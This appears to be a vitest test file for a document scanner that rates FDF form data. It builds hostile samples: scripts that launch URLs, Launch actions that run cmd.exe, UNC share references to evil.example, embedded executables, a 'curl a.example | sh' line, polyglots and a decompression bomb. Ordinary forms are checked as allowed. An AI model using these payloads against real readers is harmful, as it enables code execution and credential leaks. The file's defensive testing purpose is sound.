import { deflateSync } from "node:zlib"
import { describe, expect, it } from "vitest"
import { readPdf } from "../../../../adapters/documents/pdf/ReadPdf.ts"
import { Budget } from "../../../../adapters/documents/reading/Budget.ts"
import { documentTypeOf } from "../../../../core/documents/facts/DocumentType.ts"
import { carriers } from "../evasions/Carriers.ts"
import { rate } from "../evasions/Rate.ts"
import { makeFdf } from "./MakeFdf.ts"
import { makePdf } from "./MakePdf.ts"

const read = (bytes: Uint8Array) => readPdf(bytes, new Budget())
const program = `MZ${"x".repeat(300)}`
const stream = (content: string, entries = ""): string =>
  `<<${entries}/Length ${content.length}>>stream\n${content}\nendstream`
const deflated = (content: string): string =>
  stream(deflateSync(Buffer.from(content, "latin1")).toString("latin1"), "/Filter/FlateDecode")
const launching = Buffer.from(makePdf({ 1: "<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>" }, "none"))
const nested = Buffer.from(makeFdf("/JavaScript<</After(app.launchURL\\('http://a.example/'\\))>>")).toString("latin1")

/** Data of forms that attack when it is imported, or on a click. */
const attacks: ReadonlyArray<readonly [string, Uint8Array]> = [
  ["a script before the import", makeFdf("/JavaScript<</Before(app.launchURL\\('http://a.example/x'\\);)>>")],
  [
    "a script after the import",
    makeFdf("/JavaScript<</After 5 0 R>>", { 5: stream("this.getURL('http://a.example/')") })
  ],
  [
    "a compressed script",
    makeFdf("/JavaScript 4 0 R", {
      4: "<</AfterPermsReady 5 0 R>>",
      5: deflated("this.exportDataObject({cName:'a',nLaunch:2})")
    })
  ],
  ["a script of the document", makeFdf("/JavaScript<</Doc[(a)(app.launchURL\\('http://a.example/'\\))]>>")],
  ["an action of the document", makeFdf("/JavaScript<</Doc[(a)<</S/Launch/F(cmd.exe)>>]>>")],
  ["a script that the second of two keys has", makeFdf("/JavaScript<</After()/After(Collab.getIcon\\(a\\))>>")],
  ["a form on a share", makeFdf("/F(\\\\\\\\198.51.100.7\\\\s\\\\a.pdf)")],
  [
    "a form on a share in a file specification",
    makeFdf("/F<</Type/Filespec/UF(\\\\\\\\evil.example\\\\s\\\\a.pdf)/F(a.pdf)>>")
  ],
  [
    "a page from a share",
    makeFdf("/Pages[<</Templates[<</TRef<</Name(a)/F(\\\\\\\\evil.example\\\\s\\\\a.pdf)>>>>]>>]")
  ],
  ["a button that starts a program", makeFdf("/Fields[<</T(a)/A<</S/Launch/F(cmd.exe)>>>>]")],
  ["a field that starts a program", makeFdf("/Fields[<</T(a)/AA<</K<</S/Launch/F(cmd.exe)>>>>>>]")],
  [
    "a comment that starts a program",
    makeFdf("/Annots[4 0 R]", { 4: "<</Subtype/Link/Page 0/A<</S/Launch/F(cmd.exe)>>>>" })
  ],
  [
    "an attached program",
    makeFdf("/Annots[<</Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 5 0 R>>>>>>]", {
      5: deflated(program)
    })
  ],
  [
    "changes that start a program",
    makeFdf("/Differences 5 0 R", {
      5: deflated("9 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj")
    })
  ],
  ["data within data", makeFdf("/EmbeddedFDFs[<</F(a.fdf)/EF<</F 5 0 R>>>>]", { 5: deflated(nested) })],
  [
    "an attached document",
    makeFdf("/Annots[<</FS<</F(a.pdf)/EF<</F 5 0 R>>>>>>]", {
      5: deflated(launching.toString("latin1"))
    })
  ]
]

const text = "/Fields[<</T(name)/V(Ann Smith)>><</T(agree)/V/Yes>><</T(list)/V[(a)(b)]>>]"
const ordinary: ReadonlyArray<readonly [string, Uint8Array]> = [
  ["values", makeFdf(`/F(form.pdf)/ID[<00><01>]${text}`)],
  ["values with a comment as binary mark", makeFdf(text, {}, "%FDF-1.2\n%\xe2\xe3\xcf\xd3\r\n")],
  ["a form on the author's disk", makeFdf(`/F(/C/Users/ann/form.pdf)${text}`)],
  ["a form on a site", makeFdf(`/F(https://www.wikipedia.org/form.pdf)${text}`)],
  ["a form as URL", makeFdf(`/F<</FS/URL/F(https://www.wikipedia.org/form.pdf)>>${text}`)],
  ["a message", makeFdf("/Status(Thank you, your form was saved.)/Target(_blank)")],
  [
    "comments",
    makeFdf("/Annots[4 0 R]", {
      4: "<</Type/Annot/Subtype/Text/Name/Comment/F 28/Contents(Please check)/RC(<p>Please check</p>)/T(Ann)/Page 0/Rect[0 0 9 9]>>"
    })
  ],
  [
    "an attached text",
    makeFdf("/Annots[<</Subtype/FileAttachment/FS<</F(a.txt)/EF<</F 5 0 R>>>>>>]", {
      5: deflated("Hello")
    })
  ],
  ["a page of a template in the same document", makeFdf("/Pages[<</Templates[<</TRef<</Name(a)/F(parts.pdf)>>>>]>>]")],
  ["a link", makeFdf("/Annots[<</Subtype/Link/A<</S/URI/URI(https://www.wikipedia.org/)>>>>]")],
  ["an empty script", makeFdf("/JavaScript<</After()>>")],
  [
    "changes that add a comment",
    makeFdf("/Differences 5 0 R", { 5: deflated("9 0 obj<</Type/Annot/Contents(a)>>endobj") })
  ]
]

describe("the data of a form", () => {
  it.each(attacks)("is blocked with %s", (_, bytes) => expect(rate(bytes)[0]).toBe("block"))
  it.each(attacks)("is not ok within another document with %s", (_, bytes) => {
    for (const [where, carry] of carriers) expect(rate(carry(bytes, "a.fdf"))[0], where).not.toBe("ok")
  })
  it.each(ordinary)("is ok with %s", (_, bytes) => expect(rate(bytes)[0]).toBe("ok"))
  it.each(ordinary)("is ok within a PDF with %s", (_, bytes) => {
    expect(rate(carriers[0]![1](bytes, "a.fdf"))[0]).toBe("ok")
  })

  it("has its texts, documents and scripts", () => {
    const { facts } = read(makeFdf(`/F(https://a.example/a.pdf)/Status(Saved)/JavaScript<</After(a\\(\\))>>${text}`))
    expect(facts).toEqual([
      {
        kind: "action",
        action: { kind: "JavaScript", trigger: "open", target: null, script: "a()" },
        where: "object 1"
      },
      { kind: "reference", role: "other", target: "https://a.example/a.pdf", where: "object 1" },
      { kind: "text", text: "Saved\nAnn Smith\na\nb", pages: null, where: "document" }
    ])
  })

  it("is recognized by its header, near the start", () => {
    expect(documentTypeOf(makeFdf(""))).toBe("fdf")
    expect(documentTypeOf(makeFdf("", {}, "\r\n\r\n%FDF-1.2\n"))).toBe("fdf")
    expect(documentTypeOf(makeFdf("", {}, `${" ".repeat(2_000)}%FDF-1.2\n`))).toBeNull()
  })

  it("is blocked if viewers also open it as a PDF, or browsers as a page", () => {
    expect(rate(makeFdf(text, {}, "%FDF-1.2\n%PDF-1.7\n"))).toEqual(["block", "POLYGLOT"])
    expect(rate(makeFdf(text, {}, "<html><script>go()</script>\n%FDF-1.2\n"))).toEqual(["block", "POLYGLOT"])
  })

  it.each<readonly [string, string, string]>([
    ["a program", "\x7fELF\x02\x01\x01\0", "block"],
    ["a shell script", "#!/bin/sh\ncurl a.example | sh\n", "block"],
    ["a OneNote section", "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\0", "warn"],
    ["a help file", "ITSF\x03\0\0\0", "warn"],
    ["a RAR archive", "Rar!\x1a\x07\x01\0", "warn"]
  ])("does not hide %s before its header", (_, start, rating) => {
    expect(rate(carriers[0]![1](makeFdf(text, {}, `${start}%FDF-1.2\n`), "a.dat"))[0]).toBe(rating)
  })

  it("is read in a PDF, too", () => {
    const attack = makeFdf("/JavaScript<</After(app.launchURL\\('http://a.example/'\\))>>", {}, "%PDF-1.7\n")
    expect(rate(attack)[0]).toBe("block")
  })

  it.each<readonly [string, Uint8Array]>([
    ["no object", Buffer.from("%FDF-1.2\n")],
    ["scripts that contain themselves", makeFdf("/JavaScript 4 0 R", { 4: "<</After 4 0 R/Doc 4 0 R>>" })],
    ["changes that contain themselves", makeFdf("/Differences 1 0 R")],
    ["data that contains itself", makeFdf("", { 1: "<</FDF 1 0 R/F 1 0 R>>" })],
    ["deep nesting", makeFdf(`/Fields${"[<</Kids".repeat(5_000)}`)],
    ["a bomb", makeFdf("/JavaScript<</After 5 0 R>>", { 5: deflated(" ".repeat(40_000_000)) })]
  ])("is answered with %s", (_, bytes) => {
    const started = performance.now()
    expect(["unreadable", "warn", "block", "ok"]).toContain(rate(bytes)[0])
    expect(performance.now() - started).toBeLessThan(3_000)
  })
})
